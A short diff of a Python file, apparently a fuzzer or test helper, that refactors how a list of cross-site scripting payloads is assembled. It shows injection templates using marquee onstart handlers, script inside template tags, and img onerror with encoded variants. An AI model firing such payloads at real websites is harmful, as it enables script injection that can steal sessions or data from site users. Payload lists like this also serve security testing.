@@ -40,5 +40,7 @@ IN = (
     "<marquee onstart={}>x</marquee>",
     "<template><script>{}</script></template>",
 )
-PAYLOADS = [out + way.format(run) for out, way, run in product(OUT, IN, (RUN, QUIET))]
-PAYLOADS += [f"<img src=x: onerror={coded}>" for coded in (CODED, HEX)]
+PAYLOADS = [
+    *(out + way.format(run) for out, way, run in product(OUT, IN, (RUN, QUIET))),
+    *(f"<img src=x: onerror={coded}>" for coded in (CODED, HEX)),
+]
